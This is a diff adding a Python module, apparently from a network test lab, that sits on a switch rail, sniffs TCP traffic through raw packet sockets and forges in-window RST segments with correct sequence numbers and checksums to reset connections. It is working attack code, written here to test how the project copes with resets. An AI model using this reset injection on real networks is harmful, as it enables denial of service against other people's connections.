@@ -1,0 +1,148 @@
+# SPDX-License-Identifier: Apache-2.0
+"""An attacker in the middle of a rail who reads what passes and resets connections.
+
+He sees sequence numbers, so his RSTs are the right ones (RFC 5961): a segment of a connection's
+quieter direction tells where that direction stands.
+"""
+
+import socket
+import struct
+import time
+from types import TracebackType
+from typing import NamedTuple, Self
+
+from harp.attack import checksum
+from harp.lab import Lab, in_namespace
+
+_ETH_P_ALL, _OUTGOING = 3, 4
+_RST, _SYN, _FIN = 4, 2, 1
+
+
+class Segment(NamedTuple):
+    """A TCP segment as it was seen: headers as bytes, and what an answer needs."""
+
+    ether: bytes
+    source: bytes
+    target: bytes
+    ports: bytes
+    end: int  # the sequence number behind it
+    ack: int
+    flags: int
+    payload: bytes
+
+    @property
+    def flow(self) -> tuple[bytes, bytes, bytes]:
+        return self.source, self.target, self.ports
+
+
+def parse(frame: bytes) -> Segment | None:
+    """None: no TCP."""
+    kind = frame[12:14]
+    if kind == b"\x08\x00" and frame[23] == 6:
+        ip_bytes = (frame[14] & 15) * 4
+        total = struct.unpack_from("!H", frame, 16)[0] or len(frame) - 14
+        source, target, at = frame[26:30], frame[30:34], 14 + ip_bytes
+        end = 14 + total
+    elif kind == b"\x86\xdd" and frame[20] == 6:
+        source, target, at = frame[22:38], frame[38:54], 54
+        end = 54 + (struct.unpack_from("!H", frame, 18)[0] or len(frame) - 54)
+    else:
+        return None
+    seq, ack, offset, flags = struct.unpack_from("!IIBB", frame, at + 4)
+    payload = frame[at + (offset >> 4) * 4 : end]
+    behind = seq + len(payload) + bool(flags & _SYN) + bool(flags & _FIN)
+    ports = frame[at : at + 4]
+    return Segment(frame[:14], source, target, ports, behind % 2**32, ack, flags, payload)
+
+
+def build(seen: Segment, flags: int, payload: bytes = b"", seq: int | None = None) -> bytes:
+    """What would come next on that connection, from the same end."""
+    head = seen.ports + struct.pack(
+        "!IIBBHHH", seen.end if seq is None else seq, seen.ack, 0x50, flags, 512, 0, 0
+    )
+    length = len(head) + len(payload)
+    pseudo = seen.source + seen.target + struct.pack("!HH", 6, length)
+    odd = b"\0" if length % 2 else b""
+    tcp = head[:16] + struct.pack("!H", checksum(pseudo + head + payload + odd)) + head[18:]
+    if len(seen.source) == 16:
+        ip = struct.pack("!IHBB", 6 << 28, length, 6, 64) + seen.source + seen.target
+    else:
+        ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + length, 0, 0x4000, 64, 6, 0)
+        ip += seen.source + seen.target
+        ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
+    return seen.ether + ip + tcp + payload
+
+
+class Resetter:
+    """In the switch, on one rail between hosts 0 and 1."""
+
+    def __init__(self, lab: Lab, rail: int) -> None:
+        assert lab.switch is not None
+        self._ports = lab.switch.rails[rail]
+        self._sockets: list[socket.socket] = []
+
+        def listen(_ipr: object) -> None:
+            for port in self._ports:
+                made = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(_ETH_P_ALL))
+                self._sockets.append(made)
+                made.bind((port, _ETH_P_ALL))
+                made.setblocking(False)
+
+        in_namespace(lab.switch.netns, listen)
+
+    def __enter__(self) -> Self:
+        return self
+
+    def __exit__(
+        self,
+        kind: type[BaseException] | None,
+        error: BaseException | None,
+        trace: TracebackType | None,
+    ) -> None:
+        for made in self._sockets:
+            made.close()
+
+    def hear(self, host: int) -> list[Segment]:
+        """What the host has sent since it was last asked, so far as there was room for it."""
+        heard = []
+        try:
+            while True:
+                frame, where = self._sockets[host].recvfrom(262144)
+                if where[2] != _OUTGOING and (segment := parse(frame)):
+                    heard.append(segment)
+        except BlockingIOError:
+            return heard
+
+    def say(self, host: int, frame: bytes) -> None:
+        """To the host, as if from the other one."""
+        self._sockets[host].send(frame)
+
+    def reset_all(self) -> int:
+        """Resets every connection heard of, in both directions; how many RSTs that took."""
+        count = 0
+        for host in (0, 1):
+            newest = {segment.flow: segment for segment in self.hear(host)}
+            for segment in newest.values():
+                if not segment.flags & (_RST | _SYN | _FIN):
+                    self.say(1 - host, build(segment, _RST | 0x10))
+                    count += 1
+        return count
+
+    def reset_one(self, sender: int, seconds: float = 20) -> tuple[bytes, bytes, bytes]:
+        """Resets one connection at the host that sends on it, and returns the flow of its answers
+        once that is over: nothing but RSTs is heard of it in answer to its peer."""
+        deadline = time.monotonic() + seconds
+        chosen = None
+        while time.monotonic() < deadline:
+            for segment in self.hear(1 - sender):
+                if segment.payload or segment.flags & (_RST | _SYN | _FIN):
+                    continue
+                chosen = chosen or segment.flow
+                if segment.flow == chosen:
+                    self.say(sender, build(segment, _RST | 0x10))
+            for segment in self.hear(sender):
+                answer = (segment.target, segment.source, segment.ports[2:] + segment.ports[:2])
+                if answer == chosen and segment.flags & _RST:
+                    return chosen
+            time.sleep(0.001)  # a packet socket wakes for every frame: that would be all we do
+        raise AssertionError(f"not reset after {seconds} s")
